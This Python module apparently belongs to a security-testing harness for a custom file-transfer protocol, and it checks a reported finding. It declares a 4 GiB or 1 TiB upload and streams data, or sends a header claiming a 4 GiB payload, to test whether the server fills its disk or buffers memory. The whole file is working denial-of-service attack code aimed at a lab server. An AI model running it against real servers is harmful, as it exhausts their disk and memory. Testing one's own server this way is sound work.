"""Sizes the peer declares: a 4 GiB file, and a 4 GiB fixed-size request.

``--mode file`` (default): register (free), then start one 828 declaring the largest
file version 3 can carry (4 GiB - 17 bytes) and stream ``--send`` MiB of it. A server
with no per-file limit and no per-client quota accepts and writes it all to disk; any
registered client can repeat this, so the disk is the limit. Success if the server
was still reading after ``--send`` MiB (no 1607). With ``--data-dir`` we also report how
much it wrote to its temporary directory.

``--mode fixed``: send an 825 header claiming a 4 GiB payload. A server that reads the
declared size before judging it waits for (and buffers) 4 GiB. Success if the server
keeps the connection open instead of refusing at once.

``--protocol 4``: ``--mode file`` registers an identity of ours, declares a file of the
largest size the server hello allows (1 TiB by default) and streams ``--send`` MiB of
sealed 1 MiB records; version 4 has a per-file limit and, since its revision, refuses
a file larger than its free space (less ``--keep-free``) before any data (1607 error 8),
so this declaration fails on any disk smaller than the limit; a file that fits is
written to ``v4/partial/`` (there is still no per-client quota). ``--mode fixed``
sends message 1's header claiming a 4 GiB payload, and, on a registered connection,
a record header claiming 4 GiB: each must be refused from the header alone.
"""

from __future__ import annotations

import argparse
import os
from pathlib import Path

from eft_protocol.codes import REQUEST_HEADER, RequestCode, ResponseCode, padded_size
from eft_protocol.v4.records import FileChunk, FileMeta, decode_error, decode_resume

from .common import AttackError, ConnectionClosed, Out, ServerLink, own_session
from .framing import packet_frame
from .v4 import V4Client, add_protocol_argument, meta_plaintext, own_identity, wait_closed

FINDING = "EFT-15"
SUMMARY = "declared sizes: a 4 GiB upload with no quota; a 4 GiB fixed-size request"
MiB = 1 << 20
LARGEST = 0xFFFFFFFF - 16


def add_arguments(parser: argparse.ArgumentParser) -> None:
    parser.add_argument("--target", required=True, help="the eft server, HOST:PORT")
    parser.add_argument("--mode", choices=("file", "fixed"), default="file")
    parser.add_argument("--send", type=int, default=16, help="MiB of the file to send (16)")
    parser.add_argument("--data-dir", help="the server's data directory (lab access)")
    add_protocol_argument(parser)


def temp_bytes(data_dir: str | None, protocol: int = 3) -> int | None:
    if not data_dir:
        return None
    where = Path(data_dir, "tmp") if protocol == 3 else Path(data_dir, "v4", "partial")
    return sum(p.stat().st_size for p in where.glob("**/*") if p.is_file())


async def big_file_v4(args: argparse.Namespace, out: Out) -> bool:
    client = await own_identity(args.target, f"big-{os.urandom(3).hex()}")
    assert client.server_hello is not None
    declared = client.server_hello.max_file_size
    meta = FileMeta(1, declared, os.urandom(16), "huge.bin")
    await client.request(RequestCode.SEND_FILE, meta_plaintext(meta))
    code, plaintext = await client.response()
    if code != ResponseCode.ACKNOWLEDGED:
        await client.close()
        error = decode_error(plaintext)[0] if code == ResponseCode.SERVER_ERROR else None
        return out.result(
            False,
            f"the server refused a {declared}-byte file before its data ({code}, error "
            f"{error}: more than its free space, less its margin)",
            declared=declared,
            error=error,
        )
    _, start = decode_resume(plaintext)
    chunk = bytes(MiB)
    try:
        for index in range(start, start + args.send):
            await client.request(RequestCode.SEND_FILE, FileChunk(1, index, False, chunk).encode())
        await client.link.receive(1.0)
        verdict, accepted = "the server answered while the file was still arriving", False
    except ConnectionClosed:
        verdict, accepted = "the server closed the connection", False
    except (ConnectionError, OSError) as exc:
        verdict, accepted = f"the connection broke: {exc}", False
    except AttackError:
        verdict, accepted = "the server is still reading, silently", True
    written = temp_bytes(args.data_dir, 4)
    await client.close()
    return _outcome(out, args, declared, verdict, accepted=accepted, written=written)


async def fixed_v4(args: argparse.Namespace, out: Out) -> bool:
    link = await ServerLink.open(args.target)
    header = REQUEST_HEADER.pack(bytes(16), 4, RequestCode.SEND_PUBLIC_KEY, 0xFFFFFFFF)
    try:
        await link.send(header + bytes(64 * 1024))
        hello_closed, _ = await wait_closed(link)
    finally:
        await link.close()
    client: V4Client = await own_identity(args.target, f"fixed-{os.urandom(3).hex()}")
    try:
        header = REQUEST_HEADER.pack(client.client_id, 4, RequestCode.SEND_FILE, 0xFFFFFFFF)
        await client.link.send(header + bytes(64 * 1024))
        record_closed, _ = await client.silence()
    finally:
        await client.close()
    closed = hello_closed and record_closed
    return out.result(
        not closed,
        "the server "
        + ("closed both connections at once" if closed else "kept reading a 4 GiB claim"),
        closed=closed,
        hello_closed=hello_closed,
        record_closed=record_closed,
    )


async def big_file(args: argparse.Namespace, out: Out) -> bool:
    session = await own_session(args.target, f"big-{os.urandom(3).hex()}")
    link = session.link
    content_size = padded_size(LARGEST)
    # One 828 carries at most 4 GiB - 1 - 267 bytes of content: packet 1 of 2.
    start = packet_frame(
        session.client_id, "huge.bin", b"", content_size=content_size, orig_size=LARGEST,
        number=1, total=2,
    )  # fmt: skip
    header = REQUEST_HEADER.pack(session.client_id, 3, RequestCode.SEND_FILE, 0xFFFFFFFF)
    link.writer.write(header + start[REQUEST_HEADER.size :])
    chunk = bytes(MiB)
    try:
        for _ in range(args.send):
            link.writer.write(chunk)
            await link.writer.drain()
        answered = await link.receive(1.0)
        verdict = f"the server answered {answered.code} while the file was still arriving"
        accepted = False
    except ConnectionClosed:
        verdict, accepted = "the server closed the connection", False
    except (ConnectionError, OSError) as exc:
        verdict, accepted = f"the connection broke: {exc}", False
    except AttackError:  # no answer: the server is still reading, as it should for 4 GiB
        verdict, accepted = "the server is still reading, silently", True
    written = temp_bytes(args.data_dir)
    await link.close()
    return _outcome(out, args, LARGEST, verdict, accepted=accepted, written=written)


def _outcome(
    out: Out,
    args: argparse.Namespace,
    declared: int,
    verdict: str,
    *,
    accepted: bool,
    written: int | None,
) -> bool:
    """Both versions' big-file attack end the same way: what the server did, and how
    much of the claimed file it wrote to disk."""
    out.step(verdict, temp_bytes=written)
    return out.result(
        accepted,
        f"declared a {declared} byte file and sent {args.send} MiB: {verdict}",
        declared=declared,
        sent=args.send * MiB,
        temp_bytes=written,
    )


async def fixed(args: argparse.Namespace, out: Out) -> bool:
    link = await ServerLink.open(args.target)
    header = REQUEST_HEADER.pack(bytes(16), 3, RequestCode.REGISTER, 0xFFFFFFFF)
    try:
        await link.send(header + bytes(64 * 1024))
        closed = await link.closed(2.0)
    finally:
        await link.close()
    return out.result(
        not closed,
        "the server " + ("closed the connection at once" if closed else "kept reading"),
        closed=closed,
    )


async def run(args: argparse.Namespace, out: Out) -> bool:
    if args.protocol == 4:
        return await (big_file_v4(args, out) if args.mode == "file" else fixed_v4(args, out))
    return await (big_file(args, out) if args.mode == "file" else fixed(args, out))
